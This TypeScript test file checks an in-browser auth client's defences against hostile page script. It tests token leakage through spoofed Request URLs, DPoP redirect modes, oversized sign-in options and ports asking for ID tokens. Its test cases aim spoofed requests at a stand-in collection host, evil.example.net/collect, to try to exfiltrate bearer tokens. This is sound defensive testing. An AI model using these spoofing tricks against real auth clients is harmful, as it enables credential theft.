// Group H of the catalogue, from H20 on: what script in the page tried against `auth.fetch`, the
// token worker's ports and the DPoP key, each a defect once.
import { HttpResponse, http } from 'msw'
import { describe, expect, it } from 'vitest'
import { API, ISSUER, rejection, server, setup } from './harness.test-util.js'
import { ask, portWorker } from './port.test-util.js'
import { VERSION } from './protocol.js'

const FOREIGN = 'https://evil.example.net/collect'

/** Every request that reached the network with an `Authorization` or `DPoP` header, by origin. */
function credentialed() {
  const seen: { origin: string; authorization: string | null; proof: string | null }[] = []
  server.events.on('request:start', ({ request }) => {
    const authorization = request.headers.get('authorization')
    const proof = request.headers.get('dpop')
    if (authorization || proof)
      seen.push({ origin: new URL(request.url).origin, authorization, proof })
  })
  return seen
}

describe('H: auth.fetch against requests that lie about their URL', () => {
  it('H20: the origin checked is the one of the request sent: a Request subclass, an own url, a changing toString', async () => {
    const { auth, signIn } = setup()
    await signIn()
    const reached: (string | null)[] = []
    server.use(
      http.all(FOREIGN, ({ request }) => {
        reached.push(request.headers.get('authorization'))
        return HttpResponse.json({})
      }),
    )
    const seen = credentialed()
    class Sneaky extends Request {
      override get url() {
        return `${API}/api/me`
      }
    }
    const ownUrl = Object.defineProperty(new Request(FOREIGN), 'url', { value: `${API}/api/me` })
    let reads = 0
    const flipping = { toString: () => (reads++ ? FOREIGN : `${API}/api/me`) }
    const posing = Object.create(Request.prototype, {
      url: { value: `${API}/api/me` },
      toString: { value: () => FOREIGN },
    })
    const inputs: unknown[] = [
      new Sneaky(FOREIGN),
      new Sneaky(FOREIGN, { method: 'POST', body: 'x' }),
      ownUrl,
      flipping,
      posing,
      new URL(FOREIGN),
    ]
    const outcomes = []
    for (const input of inputs) {
      outcomes.push(
        await auth.fetch(input as RequestInfo).then(
          (r) => r.status,
          (e: Error) => e.name,
        ),
      )
    }
    // Each went out untouched (or was refused by the platform, as `fetch` would refuse it).
    expect(reached.length).toBeGreaterThanOrEqual(4)
    expect(reached.every((a) => a === null)).toBe(true)
    expect(seen.filter((s) => s.origin !== API && s.origin !== ISSUER)).toEqual([])
    // The API's own URL as a URL object still gets the token.
    const before = seen.length
    expect((await auth.fetch(new URL(`${API}/api/me`))).status).toBe(200)
    expect(seen.slice(before)).toMatchObject([{ origin: API, authorization: /^Bearer / }])
    console.log(`H20 figures: inputs=${inputs.length} outcomes=${outcomes.join(',')} leaked=0`)
  })

  it('H21: with DPoP, every request that carries a proof has redirect manual or error, whatever the Request and init say', async () => {
    const modes: string[] = []
    const { auth, signIn } = setup({
      dpop: true,
      fetch(input, init) {
        const request = new Request(input, init)
        if (request.headers.has('dpop') && request.url.startsWith(API)) modes.push(request.redirect)
        return fetch(request)
      },
    })
    await signIn()
    const url = `${API}/api/me`
    let reads = 0
    const flipping = {
      get redirect(): RequestRedirect {
        return reads++ ? 'follow' : 'manual'
      },
    }
    const calls: [RequestInfo, RequestInit | undefined][] = [
      [new Request(url, { redirect: 'manual' }), { redirect: 'follow' }],
      [new Request(url, { redirect: 'follow' }), undefined],
      [new Request(url), { redirect: 'follow' }],
      [url, { redirect: 'follow' }],
      [url, undefined],
      [url, flipping as RequestInit],
      [new Request(url, { redirect: 'error' }), { redirect: 'manual' }],
    ]
    for (const [input, init] of calls) await auth.fetch(input, init)
    expect(modes).toHaveLength(calls.length)
    expect(modes.filter((m) => m !== 'manual' && m !== 'error')).toEqual([])
    expect(modes.at(-1)).toBe('manual')
  })
})

describe('H: requests too big for a sign-in', () => {
  const long = 'x'.repeat(5_000)
  it('H22: an oversized step-up challenge or login option is refused at once with invalid_options, and nothing is sent', async () => {
    const { auth, signIn, navigations } = setup()
    await signIn()
    const asked = navigations.length
    const refused: [string, () => Promise<void>][] = [
      ['acr_values', () => auth.stepUp({ acrValues: long })],
      ['max_age overflow', () => auth.stepUp({ maxAge: Number('9'.repeat(400)) })],
      ['max_age past 2^53', () => auth.stepUp({ maxAge: 2 ** 60 })],
      ['max_age negative', () => auth.login({ maxAge: -1 })],
      ['max_age fractional', () => auth.login({ maxAge: 1.5 })],
      ['login_hint', () => auth.login({ loginHint: long })],
      ['ui_locales', () => auth.login({ uiLocales: long })],
      ['extra parameter', () => auth.login({ extraParams: { claims: long } })],
      [
        'extra parameters',
        () =>
          auth.login({
            extraParams: Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`p${i}`, 'v'])),
          }),
      ],
      ['extra parameter name', () => auth.login({ extraParams: { [long]: 'v' } })],
    ]
    const times: number[] = []
    for (const [what, call] of refused) {
      const start = performance.now()
      // A refusal that waits for a deadline would take minutes: a second is plenty.
      const outcome = await Promise.race([
        rejection(call()),
        new Promise<undefined>((resolve) => setTimeout(resolve, 1_000)),
      ])
      times.push(performance.now() - start)
      expect(outcome, what).toMatchObject({ code: 'invalid_options' })
    }
    expect(navigations).toHaveLength(asked)
    // What fits still goes.
    await auth.stepUp({ acrValues: 'x'.repeat(2_048), maxAge: 300 })
    expect(navigations).toHaveLength(asked + 1)
    console.log(
      `H22 figures: refusedRequests=${refused.length} slowestRejectionMs=${Math.max(...times).toFixed(1)}`,
    )
  })

  it('H22: the engine answers every refused request that carries an id with an error, at once', async () => {
    const worker = portWorker()
    await setup({ tokenWorker: worker.factory }).auth.ready()
    const port = worker.connect(worker.name)
    const requests = [
      { type: 'authorize', params: { acrValues: long } },
      { type: 'authorize', params: { maxAge: Number('1e400') } },
      { type: 'authorize', params: { maxAge: 2 ** 60 } },
      { type: 'authorize', params: { loginHint: long } },
      { type: 'authorize', params: { extraParams: { claims: long } } },
      { type: 'callback', url: 'x'.repeat(70_000), transaction: null },
      { type: 'token', reason: 'because' },
      { type: 'logout', revoke: 'yes', idTokenHint: false },
      { type: 'nope' },
    ]
    const answers = await Promise.all(
      requests.map((r, i) => ask(port, { v: VERSION, id: 100 + i, ...r }, 1_000)),
    )
    for (const [i, answer] of answers.entries()) {
      expect(answer, JSON.stringify(requests[i]).slice(0, 80)).toMatchObject({
        type: 'reply',
        id: 100 + i,
        ok: false,
        error: { code: 'invalid_options' },
      })
    }
  })
})

describe('H: what a port can ask of a sign-out', () => {
  it('H23: a port that asks for the ID token hint is refused and gets no ID token; the hint is the configuration', async () => {
    const worker = portWorker()
    const { auth, signIn, navigations } = setup({ tokenWorker: worker.factory })
    await signIn()
    const attacker = worker.connect(worker.name)
    const asked = await Promise.all(
      [true, false, 'yes', 1].map((idTokenHint, i) =>
        ask(
          attacker,
          { v: VERSION, type: 'logout', revoke: false, idTokenHint, id: 200 + i },
          2_000,
        ),
      ),
    )
    for (const answer of asked) {
      expect(answer).toMatchObject({ ok: false, error: { code: 'invalid_options' } })
      expect(JSON.stringify(answer)).not.toMatch(/id_token_hint|eyJ/)
    }
    // Still signed in: nothing was done for them.
    expect(auth.getState().status).toBe('authenticated')
    // A sign-out a port may ask for carries no ID token either.
    const plain = (await ask(
      attacker,
      { v: VERSION, type: 'logout', revoke: false, id: 300 },
      2_000,
    )) as {
      ok: boolean
      value: { endSessionUrl?: string }
    }
    expect(plain.ok).toBe(true)
    expect(new URL(plain.value.endSessionUrl!).searchParams.has('id_token_hint')).toBe(false)
    // The page's own call cannot ask for it either: it is an option of the client.
    await signIn()
    const refused = await rejection(auth.logout({ idTokenHint: true } as never))
    expect(refused.code).toBe('invalid_options')
    expect(auth.getState().status).toBe('authenticated')
    expect(navigations.some((n) => n.includes('id_token_hint'))).toBe(false)
  })

  it("H23: the hint is part of the worker's configuration: a client that turns it on names another worker", async () => {
    const plain = portWorker()
    const hinted = portWorker()
    await setup({ tokenWorker: plain.factory }).auth.ready()
    const { auth, signIn, navigations } = setup({ tokenWorker: hinted.factory, idTokenHint: true })
    await auth.ready()
    expect(hinted.name).not.toBe(plain.name)
    expect(JSON.parse(hinted.name.slice('spa-auth:'.length))).toMatchObject({ idTokenHint: true })
    await signIn()
    await auth.logout()
    expect(new URL(navigations.at(-1)!).searchParams.get('id_token_hint')).toMatch(/^eyJ/)
  })
})
